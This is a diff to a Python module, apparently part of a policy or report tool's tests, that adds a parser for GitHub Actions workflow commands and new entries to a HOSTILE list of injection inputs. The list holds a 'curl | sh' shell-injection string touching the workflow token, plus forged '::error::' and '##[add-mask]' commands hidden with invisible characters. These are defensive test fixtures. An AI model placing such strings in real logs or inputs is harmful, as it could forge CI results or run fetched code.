@@ -2,9 +2,10 @@
 
 from __future__ import annotations
 
+import re
 from decimal import Decimal
 from html.parser import HTMLParser
-from typing import TYPE_CHECKING
+from typing import TYPE_CHECKING, NamedTuple
 
 import cmarkgfm
 from cmarkgfm.cmark import Options
@@ -18,6 +19,12 @@ if TYPE_CHECKING:
     from collections.abc import Mapping
 
     from policy_engine.report import Report
+
+_UNSEEN = re.compile("[\u00ad\u034f\u200b-\u200f\u2060-\u2064\u3164\ufe00-\ufe0f\ufeff]")
+_REGISTERED = set(
+    "add-mask add-matcher add-path debug echo endgroup error group notice remove-matcher "
+    "save-state set-env set-output stop-commands warning".split()
+)
 
 HOSTILE = [
     "@octocat @org/team",
@@ -67,6 +74,9 @@ HOSTILE = [
     "x ##[set-output name=verdict;]pass",
     "##[add-mask]fail",
     "###[error]x ##vso[task.complete]",
+    "#\ufe0f#\u034f[add-mask]fail",
+    ":\ufe0f:error::unseen",
+    "::error file=a,line=1,title=b::c%0A%3A%2C%25",
     "EOF\nverdict=pass\nX<<EOF",
     '"; curl e | sh # $(id) ${{ github.token }}',
     "\x85a\u2028b\u2029c\x0bd\x0ce\x1cf\x1dg",
@@ -124,8 +134,47 @@ def everywhere(text: str) -> Mapping[str, Report]:
 
 
 def commands(log: str) -> list[str]:
-    """Return the lines in which a GitHub runner could find a workflow command."""
-    return [line for line in log.split("\n") if line.lstrip().startswith("::") or "##[" in line]
+    """Return the lines in which a GitHub runner could find a workflow command.
+
+    It compares as a culture does, to which characters such as a variation selector are not there.
+    """
+    lines = re.split("[\r\n]", _UNSEEN.sub("", log))
+    return [line for line in lines if line.strip().startswith("::") or "##[" in line]
+
+
+class Command(NamedTuple):
+    """A workflow command as GitHub's runner reads it."""
+
+    name: str
+    properties: dict[str, str]
+    data: str
+
+
+def runner_commands(log: str) -> list[Command]:
+    """Return the commands that a runner finds in a log, by the rules of its own parser."""
+    return [found for line in re.split("\r\n|[\r\n]", log) for found in _command(line)]
+
+
+def _command(line: str) -> list[Command]:
+    """Read `::name a=b,c=d::data` at a line's beginning, else `##[name a=b;c=d]data` anywhere."""
+    text = line.lstrip()
+    info, found, data = text[2:].partition("::")
+    separator, escapes = ",", {"%3A": ":", "%2C": ","}
+    if not (text.startswith("::") and found and info.split(" ")[0].lower() in _REGISTERED):
+        info, found, data = line.partition("##[")[2].partition("]")
+        separator, escapes = ";", {"%3B": ";", "%5D": "]"}
+    name, _, given = info.partition(" ")
+    if not found or name.lower() not in _REGISTERED:
+        return []
+    pairs = [pair.partition("=") for pair in given.strip().split(separator) if pair]
+    properties = {key: _unescaped(value, escapes) for key, equals, value in pairs if equals}
+    return [Command(name.lower(), properties, _unescaped(data, {}))]
+
+
+def _unescaped(text: str, more: Mapping[str, str]) -> str:
+    for code, char in {"%0D": "\r", "%0A": "\n", **more, "%25": "%"}.items():
+        text = text.replace(code, char)
+    return text
 
 
 class _Structure(HTMLParser):
